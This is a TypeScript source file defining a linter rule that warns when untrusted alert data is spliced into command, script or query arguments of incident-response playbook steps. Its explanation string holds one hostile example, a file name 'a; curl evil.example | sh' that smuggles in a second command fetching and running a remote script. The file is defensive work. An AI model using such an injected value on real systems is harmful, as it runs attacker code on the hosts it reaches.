import { nameOf, originOf } from '../authority/trust.js';
import type { Template } from '../expressions/expression.js';
import { problemRange } from '../expressions/template.js';
import type { JsonSchema } from '../model/json-schema.js';
import type { ActionStep } from '../model/playbook.js';
import type { Problem } from '../problem.js';
import type { PlaybookContext } from './context.js';
import { EXAMPLE_HEAD } from './example.js';
import { type PlaybookRule, report } from './rule.js';

const HEAD = EXAMPLE_HEAD.replace('[example.tools.yaml]', '[example.tools.yaml, response.tools.yaml]');
const STEPS = (command: string): string => `  - id: collect
    action: edr.run_script
    with:
      host: "\${{ alert.entities.hosts[0] }}"
      command: ${command}
    approval: { roles: [incident-commander], timeout: 15m }
`;

/** Inputs that something interprets: a shell, a query engine. By name, since JSON Schema has no word for it. */
const COMMAND =
  /(^|_)(command|commands|cmd|cmdline|script|code|query|sql|kql|spl|filter|expression|shell|powershell)(_|$)/;
/** Inputs that people read and nothing interprets. */
const PROSE = /(^|_)(text|reason|note|comment|message|subject|title|summary|description|body|detail|details)(_|$)/;

export const untrustedCommand: PlaybookRule = {
  name: 'untrusted-command',
  group: 'data',
  severity: 'warning',
  partial: true,
  reach: 'step',
  what: 'Untrusted text is put inside a command, a script or a query.',
  why: 'Whatever reads the command cannot tell which part its author wrote. A file name such as `a; curl evil.example | sh` becomes a second command, and a person who approves a long line easily misses it.',
  fix: 'Pass the value as an argument of its own, of a tool whose input names an entity or has an `enum` or `pattern`. An error where no person sees the call.',
  failing: { kind: 'playbook', text: HEAD + STEPS('"type ${{ «alert.message» }}"') },
  passing: { kind: 'playbook', text: HEAD + STEPS('"ipconfig /all"') },
  *check(context): Generator<Problem> {
    for (const step of context.steps) if (step.kind === 'action') yield* checkStep(context, step);
  },
};

function* checkStep(context: PlaybookContext, step: ActionStep): Generator<Problem> {
  const { tools, actsAt, sitesAt, stepOf, items, text } = context;
  const tool = tools.get(step.tool.value);
  const act = actsAt.get(step)?.[0];
  for (const argument of tool ? step.with : []) {
    const name = argument.name.value;
    const schema = tool?.input.properties?.[name];
    if (!schema || isTied(schema)) continue;
    const command = COMMAND.test(name) || COMMAND.test(schema.format ?? '');
    // Of other inputs only the mixture of an author's text with untrusted text looks like a command of some kind.
    if (!command && (!act || PROSE.test(name) || !mixes(argument.value))) continue;
    const found = (sitesAt.get(step) ?? [])
      .filter((site) => site.slot === 'argument' && site.argument === name)
      .flatMap((site) => site.checked.references.map((reference) => ({ site, reference })))
      .find(({ reference }) => ['untrusted', 'entities'].includes(originOf(reference, stepOf, items.get(step))));
    if (!found) continue;
    const alone = act?.autonomy.level === 'notify' || act?.autonomy.level === 'autonomous';
    yield report(
      untrustedCommand,
      problemRange(found.site.expression, found.reference.start, found.reference.end, text),
      `${nameOf(found.reference)} may hold what an attacker wrote, and here it becomes part of "${name}" of ${step.tool.value}, where it can say more than it should${alone ? ', with no person looking' : ''}. Pass it as an argument of its own, of an input with "x-entity", "enum" or "pattern".`,
      { severity: alone ? 'error' : 'warning' },
    );
  }
}

/** Whether the catalog already says what values may look like. */
function isTied(schema: JsonSchema): boolean {
  return (
    schema.enum !== undefined ||
    schema.const !== undefined ||
    schema.pattern !== undefined ||
    schema['x-entity'] !== undefined ||
    (schema.type !== undefined && schema.type !== 'string')
  );
}

/** Whether a value is text with expressions among words of its author. */
function mixes(template: Template): boolean {
  return template.kind === 'text' && template.parts.some((part) => typeof part === 'string' && part.trim() !== '');
}
